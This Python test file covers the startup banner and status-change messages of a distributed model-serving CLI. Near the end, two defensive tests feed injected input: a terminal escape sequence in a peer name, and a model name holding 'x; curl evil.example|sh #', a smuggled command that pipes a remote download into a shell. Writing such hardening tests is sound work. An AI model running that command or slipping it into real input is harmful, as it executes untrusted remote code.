"""What `gridnode up` tells people."""

from __future__ import annotations

from dataclasses import replace

from fake_node import SERVING, STATUS

from gridnode.cli.news import Doorstep, banner, news
from gridnode.config import DEFAULT_API
from gridnode.control.status_schema import EngineStatus, NodeStatus, PauseStatus
from gridnode.core.addresses import Address

DOORSTEP = Doorstep(api=DEFAULT_API, reachable=(Address("192.0.2.7", 7338),), model="tiny.gguf")
LOADING = replace(STATUS, engine=EngineStatus(state="loading", wanted_blocks=30), models=())
PEER = replace(
    STATUS.peers[0], peer_id="b" * 52, short="bbbbbbbb", is_self=False, public_name="Bo", path="direct"
)


def test_the_banner_says_how_to_use_and_to_join_the_node() -> None:
    text = "\n".join(banner(STATUS, DOORSTEP))
    assert "http://127.0.0.1:7337" in text
    assert "browse   http://127.0.0.1:7337/ " in text
    assert "gridnode up --model tiny.gguf --join 192.0.2.7:7338" in text


def test_who_may_join_a_private_swarm_is_invited() -> None:
    text = "\n".join(banner(replace(STATUS, swarm_is_private=True), DOORSTEP))
    assert "swarm home (private)" in text
    assert "gridnode invite" in text
    assert "knows the swarm's name" not in text


def test_a_node_without_a_model_says_so() -> None:
    assert "nothing" in banner(STATUS, replace(DOORSTEP, model=""))[-1]


def test_nothing_new_is_nothing_told() -> None:
    assert news(STATUS, STATUS, DOORSTEP) == []
    assert news(LOADING, LOADING, DOORSTEP) == []


def test_ready_says_what_is_served_and_what_to_do_next() -> None:
    lines = news(LOADING, STATUS, DOORSTEP)
    assert lines[0].startswith("  ready    blocks 0:30 of 30 of tiny")
    assert lines[-1].startswith("  next     gridnode run ")


def test_the_door_is_named_where_it_is_not_the_usual_one() -> None:
    lines = news(LOADING, STATUS, replace(DOORSTEP, api=Address("127.0.0.1", 4000)))
    assert "--api 127.0.0.1:4000" in lines[-1]
    assert "  chat     http://127.0.0.1:4000/chat" in lines


def with_gap(status: NodeStatus) -> NodeStatus:
    """Return `status` of a node that serves blocks 0:10 of 30 alone."""
    me = replace(status.peers[0], serving=replace(SERVING, end=10))
    model = replace(STATUS.models[0], gaps=((10, 30),), route="")
    return replace(status, peers=(me,), models=(model,))


def test_a_gap_comes_with_the_command_that_fills_it() -> None:
    lines = news(LOADING, with_gap(STATUS), DOORSTEP)
    assert lines[-1] == "  next     gridnode up --model tiny.gguf --blocks 10:30 --join 192.0.2.7:7338"


def test_a_gap_that_somebody_is_about_to_fill_needs_nobody_else() -> None:
    status = with_gap(STATUS)
    joining = replace(PEER, state="joining", serving=replace(SERVING, start=10))
    lines = news(LOADING, replace(status, peers=(*status.peers, joining)), DOORSTEP)
    assert lines[-1] == "  waiting  others are loading the rest of tiny"


def test_a_node_that_will_fill_the_gap_asks_nobody() -> None:
    not_yet = with_gap(replace(STATUS, engine=EngineStatus(state="none")))
    assert news(None, not_yet, DOORSTEP) == []
    assert news(None, not_yet, replace(DOORSTEP, model="")) != []


def test_a_better_route_is_no_news() -> None:
    other = replace(STATUS.models[0], route="bbbbbbbb 0:30")
    assert news(STATUS, replace(STATUS, models=(other,)), DOORSTEP) == []


def test_peers_come_and_go() -> None:
    both = replace(STATUS, peers=(*STATUS.peers, PEER))
    assert news(STATUS, both, DOORSTEP) == ["  peer     bbbbbbbb (Bo) is online, blocks 0:30"]
    assert news(both, STATUS, DOORSTEP) == ["  peer     bbbbbbbb (Bo) is gone"]


def test_a_dead_engine_is_trouble() -> None:
    dead = EngineStatus(state="restarting", detail="was killed by SIGKILL")
    (line,) = news(STATUS, replace(STATUS, engine=dead), DOORSTEP)
    assert "SIGKILL" in line


def test_names_of_strangers_cannot_steer_the_terminal() -> None:
    evil = replace(PEER, public_name="\x1b[2J", serving=SERVING)
    assert "\x1b" not in news(STATUS, replace(STATUS, peers=(*STATUS.peers, evil)), DOORSTEP)[0]


def test_an_open_door_says_who_needs_a_key_and_shows_a_new_one_once() -> None:
    elsewhere = (Address("192.0.2.7", 7337),)
    door = replace(DOORSTEP, api_elsewhere=elsewhere, first_key="gn-new")
    api, key, attempt = banner(STATUS, door)[1:4]
    assert (
        "http://192.0.2.7:7337  (with a key, not encrypted; on this computer http://127.0.0.1:7337, no" in api
    )
    assert "gn-new" in key
    assert "curl -H 'Authorization: Bearer gn-new' http://192.0.2.7:7337/api/v1/status" in attempt
    assert "gn-" not in "".join(banner(STATUS, replace(door, first_key="")))


def test_a_door_that_asks_everybody_says_so() -> None:
    assert "(this computer only, with a key)" in banner(STATUS, replace(DOORSTEP, home_needs_key=True))[1]


def test_a_pause_and_its_end_are_told_once() -> None:
    resting = replace(STATUS, pause=PauseStatus(reason="on battery", remaining_s=None, is_owners=False))
    assert news(STATUS, resting, DOORSTEP) == ["  resting  paused until that changes: on battery"]
    assert news(resting, resting, DOORSTEP) == []
    assert news(resting, STATUS, DOORSTEP) == ["  resumed  it serves again"]


def test_a_strangers_name_is_no_command() -> None:
    gap = with_gap(STATUS)
    status = replace(gap, models=(replace(gap.models[0], name="x; curl evil.example|sh #"),))
    lines = news(LOADING, status, replace(DOORSTEP, model=""))
    assert "gridnode up --model 'x; curl evil.example|sh #' --blocks 10:30 " in lines[-1]
